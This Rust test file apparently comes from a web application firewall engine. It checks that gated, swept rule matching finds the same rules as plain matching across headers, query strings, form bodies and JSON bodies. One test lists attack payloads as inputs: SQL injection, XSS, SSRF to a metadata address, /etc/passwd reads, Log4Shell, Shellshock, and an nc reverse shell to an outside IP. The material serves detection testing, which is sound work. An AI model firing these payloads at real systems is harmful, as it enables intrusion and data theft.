//! Differential tests aimed at the byte gates ([`crate::engine::gate`]),
//! the memory of clean head values ([`crate::engine::clean`]) and the
//! parameter-name search of the raw-body screen
//! ([`crate::engine::named`]): on every transaction, the snapshot with its
//! sweeps must find exactly the rules the same snapshot without sweeps
//! finds, and the rules each case is built to hit must be among them.
//! One matcher of each kind serves a whole sequence, so values remembered
//! clean by one transaction are left out of the next.
//!
//! The first tests are counterexamples these found, kept as regression
//! tests: class set operators (`&&`, `--`, `~~`) that Vectorscan reads as
//! literal bytes and ranges, and the syntax tree the gates were computed
//! from read as intersection and difference, so a pattern was gated on
//! bytes some of its matches lack. Such patterns are now left ungated.

use std::sync::Arc;

use super::sweep_attack::{request, Pair, FORM, JSON};
use super::{default_rule_files, get, sig};
use crate::engine::{Matcher, Snapshot};
use crate::http::Transaction;

/// Rules written as `match:` blocks, numbered from 1.
fn rules(conditions: &[&str]) -> Vec<String> {
    let numbered = conditions.iter().enumerate();
    numbered.map(|(i, c)| sig(i as u64 + 1, "", c)).collect()
}

fn pair(conditions: &[&str]) -> Pair {
    let rules = rules(conditions);
    let pair = Pair::new(&rules).expect("the rules compile");
    assert!(pair.swept(), "the rules are swept: {conditions:?}");
    pair
}

/// Runs `steps` in order through one pair: each transaction must hit
/// `expected` without sweeps (the case is what it claims) and the same
/// with them.
fn run(pair: &mut Pair, steps: &[(Transaction, &[u64])]) {
    for (at, (tx, expected)) in steps.iter().enumerate() {
        let (found, plain) = pair.ids(tx);
        assert_eq!(plain, *expected, "step {at}, without sweeps: {tx:?}");
        assert_eq!(found, plain, "step {at}, with sweeps: {tx:?}");
    }
}

fn form(body: &str) -> Transaction {
    request(FORM, body.as_bytes())
}

fn json(body: &str) -> Transaction {
    request(JSON, body.as_bytes())
}

// Counterexamples.

/// `&&` inside a class is two literal `&` to Vectorscan and an
/// intersection to the syntax tree read for the gate: `[<&&<a]` is read as
/// needing `<`, while Vectorscan matches an `a`.
#[test]
fn class_set_operators_are_literal_bytes() {
    let mut pair = pair(&["field: user-agent\nregex: 'x[<&&<a]'"]);
    run(
        &mut pair,
        &[
            // With a `<` elsewhere in the value the gate opens and the
            // sweep finds it: only the gate loses the hit.
            (get("/p", "\r\nUser-Agent: xa<"), &[1]),
            (get("/p", "\r\nUser-Agent: xa"), &[1]),
        ],
    );
}

/// `--` inside a class, likewise: to Vectorscan `[!--<]` is the range
/// `!` to `-` and a `<`; the syntax tree reads `!` minus `<` and gates the
/// pattern on `!`, so `x,` is never swept.
#[test]
fn class_difference_is_a_range() {
    let mut pair = pair(&["field: user-agent\nregex: 'x[!--<]'"]);
    run(
        &mut pair,
        &[
            (get("/p", "\r\nUser-Agent: x, !"), &[1]),
            (get("/p", "\r\nUser-Agent: x,"), &[1]),
        ],
    );
}

/// `~~` inside a class, likewise: `[<~~<]` is `<` or `~` to Vectorscan
/// and an empty symmetric difference to the syntax tree.
#[test]
fn class_symmetric_difference_is_literal_bytes() {
    let mut pair = pair(&["field: query\nregex: 'x[<~~<]'"]);
    run(&mut pair, &[(get("/p?x~", ""), &[1])]);
}

/// An intersection the syntax tree reads as empty gives the pattern a
/// gate of no bytes at all: no text opens it, and the pattern is never
/// swept, while Vectorscan reads `[a&&<]` as `a`, `&` or `<`.
#[test]
fn an_empty_intersection_is_not_an_empty_gate() {
    let mut pair = pair(&["field: user-agent\nregex: 'x[a&&<]'"]);
    run(
        &mut pair,
        &[
            (get("/p", "\r\nUser-Agent: x<"), &[1]),
            (get("/p", "\r\nUser-Agent: xa"), &[1]),
        ],
    );
}

/// The same in a raw body: the screen scans it with the database without
/// the pattern (here, no database at all) and clears it unsplit.
#[test]
fn an_empty_intersection_does_not_clear_a_raw_body() {
    let mut pair = pair(&["field: param-values\nregex: 'x[a&&<]'"]);
    run(
        &mut pair,
        &[(form("q=xa"), &[1]), (json(r#"{"q":"x&"}"#), &[1])],
    );
}

// Attempts that hold.

/// Parameter names a raw body may not spell out as they stand in the rule:
/// JSON paths, nested members, case, a `+` in a form name, a name that is
/// only some other parameter's value.
#[test]
fn named_parameters_of_raw_bodies() {
    let conditions = [
        "field: body-param\nname: aaa\nregex: zzz",
        "field: request-json\nname: $.bbb\nregex: yyy",
        "field: request-json\nname: $.c.d\nregex: xxx",
        "field: request-json\nname: '$.e[*]'\nregex: www",
        "field: param\nname: f g\nregex: vvv",
        "field: body-param\nname: Hh\nregex: uuu",
    ];
    let mut pair = pair(&conditions);
    run(
        &mut pair,
        &[
            (form("aaa=zzz"), &[1]),
            (form("x=aaa&y=zzz"), &[]),
            (form("aaa=zzz&aaa=1"), &[1]),
            (json(r#"{"bbb":"yyy"}"#), &[2]),
            (json(r#"{"c":{"d":"xxx"}}"#), &[3]),
            (json(r#"{"e":["1","www"]}"#), &[4]),
            (json(r#"{"aaa":"zzz","bbb":"zzz"}"#), &[1]),
            (form("f+g=vvv"), &[5]),
            (form("hh=uuu"), &[]),
            (form("Hh=uuu"), &[6]),
            (json(r#"{"Hh":"uuu"}"#), &[6]),
        ],
    );
}

/// The same next to a rule on the whole body, so that the raw-body screen
/// reports and has to look the names up.
#[test]
fn named_parameters_next_to_a_whole_body_rule() {
    let conditions = [
        "field: body-param\nname: aaa\ntransforms: [url-decode]\nregex: zzz",
        "field: request-json\nname: $.c.d\nregex: xxx",
        "field: request-body\nregex: qqq",
    ];
    let mut pair = pair(&conditions);
    run(
        &mut pair,
        &[
            (form("b=zzz"), &[]),
            (form("aaa=zzz"), &[1]),
            (form("b=qqq&aaa=zzz"), &[1, 3]),
            (json(r#"{"c":{"d":"xxx"}}"#), &[2]),
            (json(r#"{"c":{"d":"xxx"},"q":"qqq"}"#), &[2, 3]),
        ],
    );
}

/// Rare bytes that appear only once a transform decodes them.
#[test]
fn gate_bytes_that_appear_only_after_decoding() {
    let conditions = [
        "field: query\ntransforms: [url-decode]\nregex: '<s'",
        "field: user-agent\ntransforms: [html-entity-decode]\nregex: '\\x3cs'",
        "field: cookies\ntransforms: [base64-decode]\nregex: ';id'",
        "field: header\nname: referer\ntransforms: [url-decode, lowercase]\nregex: \"'or\"",
        "field: body-param\nname: q\ntransforms: [url-decode]\nregex: '\\|ls'",
        "field: param-values\ntransforms: [html-entity-decode]\nregex: '[<>]b'",
    ];
    let mut pair = pair(&conditions);
    // ";id" base64: "O2lk".
    run(
        &mut pair,
        &[
            (get("/p?q=%3cs", ""), &[1]),
            (get("/p?q=plain", "\r\nUser-Agent: &lt;s"), &[2]),
            (get("/p", "\r\nUser-Agent: &#60;s"), &[2]),
            (get("/p", "\r\nCookie: c=O2lk"), &[3]),
            (get("/p", "\r\nReferer: %27OR"), &[4]),
            (get("/p", "\r\nReferer: %27or"), &[4]),
            (form("q=%7cls"), &[5]),
            (form("q=a&r=%26gt;b"), &[6]),
            (json(r#"{"q":"\u007cls"}"#), &[5]),
            (json(r#"{"r":"\u003cb"}"#), &[6]),
            (
                get("/p?q=plain", "\r\nUser-Agent: plain\r\nReferer: plain"),
                &[],
            ),
        ],
    );
}

/// One value moves between fields and sources across transactions: it is
/// clean where it first appears, then a rule reads it elsewhere.
#[test]
fn a_clean_value_is_clean_only_where_it_was_seen() {
    let conditions = [
        "field: user-agent\nregex: 'alpha'",
        "field: header\nname: referer\nregex: 'beta'",
        "field: header\nname: x-token\nregex: 'gamma'",
        "field: cookies\nregex: 'delta'",
    ];
    let mut pair = pair(&conditions);
    let value = "alpha beta gamma delta";
    run(
        &mut pair,
        &[
            (get("/p", &format!("\r\nX-Other: {value}")), &[]),
            (get("/p", &format!("\r\nX-Other: {value}")), &[]),
            (get("/p", &format!("\r\nUser-Agent: {value}")), &[1]),
            (get("/p", &format!("\r\nReferer: {value}")), &[2]),
            (get("/p", &format!("\r\nX-Token: {value}")), &[3]),
            (get("/p", &format!("\r\nCookie: c={value}")), &[4]),
            (get("/p", &format!("\r\nX-Other: {value}")), &[]),
            (get("/p", &format!("\r\nUser-Agent: {value}")), &[1]),
        ],
    );
}

/// A value first seen clean next to harmless values, then next to a value
/// with the gate bytes open, and values of exactly 256 and 257 bytes (the
/// longest kept, and one more).
#[test]
fn clean_values_around_the_gate_and_the_length_limit() {
    let conditions = [
        "field: user-agent\nregex: '<b'",
        "field: user-agent\nregex: 'zq$'",
        "field: header\nname: referer\nregex: '^zq'",
    ];
    let mut pair = pair(&conditions);
    let long = |n: usize| format!("{}zq", "a".repeat(n - 2));
    let mut steps: Vec<(Transaction, &[u64])> = vec![
        (get("/p", "\r\nUser-Agent: b<\r\nReferer: zz"), &[]),
        (get("/p", "\r\nUser-Agent: <b\r\nReferer: zz"), &[1]),
        (get("/p", "\r\nUser-Agent: x<b\r\nReferer: zq"), &[1, 3]),
        (get("/p", "\r\nUser-Agent: azq"), &[2]),
        (get("/p", "\r\nReferer: azq"), &[]),
        (get("/p", "\r\nUser-Agent: azq"), &[2]),
    ];
    for n in [255, 256, 257] {
        let agent = format!("\r\nUser-Agent: {}", long(n));
        steps.push((get("/p", &agent), &[2]));
        steps.push((get("/p", &agent), &[2]));
    }
    run(&mut pair, &steps);
}

/// Query strings remembered clean as a whole: each case comes twice, so
/// that the second finds its query string remembered (or not, when a
/// value was named); a value a widened pattern names without a hit, the
/// same values in another order, a query string past the length kept,
/// an empty query string beside none, and a chain of its own sweep. A
/// query string no sweep names a value of is left out the second time.
#[test]
fn a_query_string_remembered_clean_stands_for_its_values_only() {
    let conditions = [
        "field: query-param\nname: q\nregex: '^zq'",
        "field: param-names\nregex: 'zq'",
        "field: query\nregex: 'a=1&b'",
        "field: query\nregex: '^$'",
        "field: query-param\nname: q\ntransforms: [base64-decode]\nregex: 'zq'",
    ];
    let mut pair = pair(&conditions);
    let long = "a".repeat(300);
    // (target, rules hit, whether it is left out the second time)
    let cases: Vec<(String, &[u64], bool)> = vec![
        ("/p?q=plain&r=1".into(), &[], true),
        ("/p?q=zq&r=1".into(), &[1], false),
        ("/p?r=1&q=zq".into(), &[1], false),
        ("/p?q=x.zq".into(), &[], false),
        ("/p?q=plain&zq=1".into(), &[2], false),
        ("/p?zq=1&q=plain".into(), &[2], false),
        ("/p?a=1&b=2".into(), &[3], false),
        ("/p?b=2&a=1".into(), &[], true),
        ("/p".into(), &[], false),
        ("/p?".into(), &[4], false),
        (format!("/p?r={long}&q=zq"), &[1], false),
        (format!("/p?r={long}&q=zz"), &[], false),
        ("/p?q=enE=".into(), &[5], false),
    ];
    let left_out = |pair: &Pair| pair.swept.stats().queries_remembered;
    for (target, expected, clean) in cases {
        let before = left_out(&pair);
        run(&mut pair, &[(get(&target, ""), expected)]);
        assert_eq!(left_out(&pair), before, "first seen: {target}");
        run(&mut pair, &[(get(&target, ""), expected)]);
        if clean {
            assert!(left_out(&pair) > before, "seen again: {target}");
        }
    }
    let again = get("/p?q=plain&r=1", "");
    run(&mut pair, &[(again, &[])]);
}

/// The snapshot changes between transactions that repeat one value.
#[test]
fn an_update_forgets_values_remembered_clean() {
    let mut pair = pair(&["field: user-agent\nregex: '<x'"]);
    let tx = || get("/p", "\r\nUser-Agent: probe;1");
    run(&mut pair, &[(tx(), &[]), (tx(), &[])]);
    let later = rules(&["field: user-agent\nregex: ';1'"]);
    let again = Pair::new(&later).expect("the rules compile");
    let (swept, plain) = (again.swept, again.plain);
    pair.swept.update(swept.snapshot().clone()).expect("update");
    pair.plain.update(plain.snapshot().clone()).expect("update");
    run(&mut pair, &[(tx(), &[1]), (tx(), &[1])]);
}

/// Flags and escapes the gate reads: case-insensitive, multi-line and
/// dot-all patterns, hex escapes, negated classes.
#[test]
fn gate_reading_of_flags_and_escapes() {
    let conditions = [
        "field: user-agent\nregex: '(?i)A\\x3cB'",
        "field: user-agent\nregex: '(?s)x.<'",
        "field: user-agent\nregex: '(?m)^<q$'",
        "field: user-agent\nregex: '[^a-z]{2}k'",
        "field: query\nregex: '[\\x3b\\x7c]id'",
        "field: query\nregex: '(?:<|;|\\|)sh'",
    ];
    let mut pair = pair(&conditions);
    run(
        &mut pair,
        &[
            (get("/p", "\r\nUser-Agent: a<b"), &[1]),
            (get("/p", "\r\nUser-Agent: x <"), &[2]),
            (get("/p", "\r\nUser-Agent: <q"), &[3]),
            (get("/p", "\r\nUser-Agent: 12k"), &[4]),
            (get("/p", "\r\nUser-Agent: 12K"), &[]),
            (get("/p?a;id", ""), &[5]),
            (get("/p?a|sh", ""), &[6]),
            (get("/p?aid&sh", ""), &[]),
        ],
    );
}

/// A pattern with some branches that need a rare byte and some that do
/// not is swept as two patterns, one gated (see `sweep::gated_parts`):
/// each branch is still found, with and without the bytes in the text,
/// in head values and in raw and decoded bodies.
#[test]
fn branches_gated_apart_from_the_rest_of_their_pattern() {
    let shell = r"regex: '(?:[;|]|\$\(|\bnohup\s)\s*whoami\b|\{\{\s*7\*7'";
    let conditions = [
        format!("field: query\ntransforms: [url-decode]\n{shell}"),
        format!("field: param-values\ntransforms: [url-decode, lowercase]\n{shell}"),
        format!("field: request-json\nname: '$.*'\n{shell}"),
    ];
    let conditions: Vec<&str> = conditions.iter().map(String::as_str).collect();
    let mut pair = pair(&conditions);
    run(
        &mut pair,
        &[
            (get("/p?q=nohup%20whoami", ""), &[1, 2]),
            (get("/p?q=a%3Bwhoami", ""), &[1, 2]),
            (get("/p?q=%24(whoami)", ""), &[1, 2]),
            (get("/p?q={{7*7}}", ""), &[1, 2]),
            (get("/p?q=whoami", ""), &[]),
            (form("q=NOHUP+whoami"), &[2]),
            (form("q=x|whoami"), &[2]),
            (json(r#"{"q":"nohup whoami"}"#), &[2, 3]),
            (json(r#"{"q":"x;whoami"}"#), &[2, 3]),
            (json(r#"{"q":"x\u003bwhoami"}"#), &[2, 3]),
            (json(r#"{"q":"whoami","n":"nohup"}"#), &[]),
        ],
    );
}

/// The default ruleset, with and without its sweeps.
fn default_pair() -> Pair {
    let files = default_rule_files();
    let compile = || Snapshot::from_files(&files).expect("the default rules compile");
    let swept = compile();
    let mut plain = compile();
    plain.sweeps.clear();
    Pair {
        swept: Matcher::new(Arc::new(swept)).expect("scratch"),
        plain: Matcher::new(Arc::new(plain)).expect("scratch"),
    }
}

/// `text` as a JSON string, quotes included: `"` and `\` escaped, and,
/// with `raw_controls`, tabs and line breaks left as they are (lenient
/// servers take them), otherwise escaped too.
fn json_string(text: &str, raw_controls: bool) -> String {
    let mut out = String::from("\"");
    for c in text.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\t' | '\n' | '\r' if raw_controls => out.push(c),
            '\t' => out.push_str("\\t"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            c => out.push(c),
        }
    }
    out.push('"');
    out
}

/// Attack payloads of the default rules' classes as JSON values, under
/// plain and SSRF parameter names, with each kind of `Content-Type` the
/// raw-body screen reads differently: the sweeps (the lean database of a
/// JSON body among them) must find exactly what the values find, and the
/// JSON cases must each hit.
#[test]
fn default_rules_find_the_same_in_json_bodies_with_and_without_sweeps() {
    let mut pair = default_pair();
    let payloads = [
        "admin'--",
        "admin\"--",
        "x' or '1'='1",
        "1 union select password from users",
        "javascript:alert(1)",
        "java\tscript:alert(document.cookie)",
        "java\nscript:alert(1)",
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "http://169.254.169.254/latest/meta-data/",
        "http://127.0.0.1:8080/admin",
        "0",
        ";cat /etc/passwd",
        "$(id)",
        "a|nc -e /bin/sh 203.0.113.9 4444",
        "../../../../etc/passwd",
        "${jndi:ldap://x.example/a}",
        "{{7*7}}",
        "() { :; }; /bin/bash -c id",
        "1;drop table users--",
    ];
    let heads = [
        "POST /p HTTP/1.1\r\nHost: h\r\nContent-Type: application/json",
        "POST /p HTTP/1.1\r\nHost: h\r\nContent-Type: Application/JSON; charset=utf-8",
        "POST /p HTTP/1.1\r\nHost: h",
        "POST /p HTTP/1.1\r\nHost: h\r\nContent-Type: text/plain",
    ];
    let mut hit = 0;
    for payload in payloads {
        for raw_controls in [false, true] {
            for name in ["q", "url", "callback"] {
                let value = json_string(payload, raw_controls);
                let bodies = [
                    format!("{{\"{name}\":{value}}}"),
                    format!("{{\"a\":[1,\"b\"],\"o\":{{\"{name}\":{value}}}, \"z\":null}}"),
                ];
                for (head, body) in heads.iter().zip(bodies.iter().cycle()) {
                    let tx = request(head, body.as_bytes());
                    let (found, plain) = pair.ids(&tx);
                    assert_eq!(found, plain, "{head:?} {body:?}");
                    hit += usize::from(!plain.is_empty());
                }
            }
        }
    }
    // The JSON heads (2 of 4) must hit on every payload but "0", which
    // only the SSRF names make an attack.
    let expected_at_least = (payloads.len() - 1) * 2 * 3 * 2;
    assert!(
        hit >= expected_at_least,
        "{hit} of at least {expected_at_least} cases hit"
    );
    let clean = [
        r#"{"name":"O'Brien","note":"done -- see \"notes\"","url":"https://example.com/a"}"#,
        r#"{"title":"JavaScript: The Good Parts","q":"select a plan","n":0}"#,
    ];
    for body in clean {
        let (found, plain) = pair.ids(&request(heads[0], body.as_bytes()));
        assert_eq!((found, plain), (vec![], vec![]), "{body}");
    }
    // A short attack value after a long one, at every offset up to 200
    // bytes into the body.
    for n in 0..=200 {
        let body = format!(
            r#"{{"a":"{}","b":"<script>alert(1)</script>"}}"#,
            "x".repeat(n)
        );
        let (found, plain) = pair.ids(&request(heads[0], body.as_bytes()));
        assert!(
            plain.contains(&101001),
            "without sweeps, {n} bytes: {plain:?}"
        );
        assert_eq!(found, plain, "with sweeps, {n} bytes");
    }
}

/// Head patterns narrowed in the gate's database: optional items made of
/// rare bytes (tab, CR, LF between letters) are left out of it, and those
/// bytes open the gate, so a value that holds one is scanned with the
/// whole pattern. One matcher for the sequence, so each value is looked up
/// in the memory of clean values on its second visit.
#[test]
fn narrowed_head_patterns_hold_with_and_without_their_optional_bytes() {
    let conditions = [
        "field: query\ntransforms: [url-decode]\nregex: 'j[\\t\\n\\r]*a[\\t\\n\\r]*v[\\t\\n\\r]*a:'",
        "field: user-agent\nregex: 'x\\s*<?y'",
        "field: path\ntransforms: [url-decode]\nregex: '/[a-z]\\?+/'",
        "field: header\nname: referer\nregex: '/[a-z]\\[[a-z]+\\]/'",
    ];
    let mut pair = pair(&conditions);
    let steps: [(Transaction, &[u64]); 12] = [
        (get("/p?q=java:", ""), &[1]),
        (get("/p?q=j%09a%0Av%0Da:", ""), &[1]),
        (get("/p?q=j%09ava", ""), &[]),
        (get("/p?q=jav%20a:", ""), &[]),
        (get("/p", "\r\nUser-Agent: x <y"), &[2]),
        (get("/p", "\r\nUser-Agent: x y"), &[2]),
        (get("/p", "\r\nUser-Agent: x\t<z"), &[]),
        (get("/b/c%3F%3F/d", ""), &[3]),
        (get("/b/c?/d", ""), &[]),
        (get("/p?q=1", "\r\nReferer: http://h/b/c?/d"), &[]),
        (get("/p", "\r\nReferer: http://h/b/c[at]/d"), &[4]),
        (get("/p", "\r\nReferer: http://h/b/cat/d?x=/c?/"), &[]),
    ];
    run(&mut pair, &steps);
    run(&mut pair, &steps);
}

/// Sweep passes leave out a transform that would change nothing in the
/// values reaching it, wherever it stands in the chain: `html-entity-decode`
/// after a `url-decode` that only turns `+` into spaces is skipped, but not
/// when the decoding makes a `&`, nor when a `&` was there already.
/// Parameter values are URL-decoded once when they are extracted, so a `+`
/// left for the rules' `url-decode` is written `%2B`.
#[test]
fn decoding_steps_are_skipped_only_where_they_change_nothing() {
    let conditions = [
        "field: param-values\ntransforms: [url-decode, html-entity-decode]\nregex: '<b c'",
        "field: param-values\ntransforms: [url-decode]\nregex: 'd e'",
        "field: param-values\ntransforms: [html-entity-decode, url-decode]\nregex: 'f<g'",
    ];
    let mut pair = pair(&conditions);
    let steps: [(Transaction, &[u64]); 14] = [
        (get("/p?q=%3Cb%2Bc", ""), &[1]),
        (get("/p?q=%2526lt;b%2Bc", ""), &[1]),
        (get("/p?q=%26lt;b%2Bc", ""), &[1]),
        (get("/p?q=%3Cb%2Bc&r=d%2Be", ""), &[1, 2]),
        (get("/p?q=x%2By&r=d%2Be", ""), &[2]),
        (get("/p?q=f%2526lt;g", ""), &[]),
        (get("/p?q=f%253Cg%2Bh", ""), &[3]),
        (form("q=%2526lt;b%2Bc"), &[1]),
        (form("q=%26lt;b%2Bc"), &[1]),
        (form("q=%3Cb%2Bc&r=d%2Be"), &[1, 2]),
        (form("q=f%26lt;g"), &[3]),
        (form("q=f%2526lt%253Bg"), &[]),
        (form("q=d%2Be"), &[2]),
        (form("q=b%2Bc"), &[]),
    ];
    run(&mut pair, &steps);
    run(&mut pair, &steps);
}
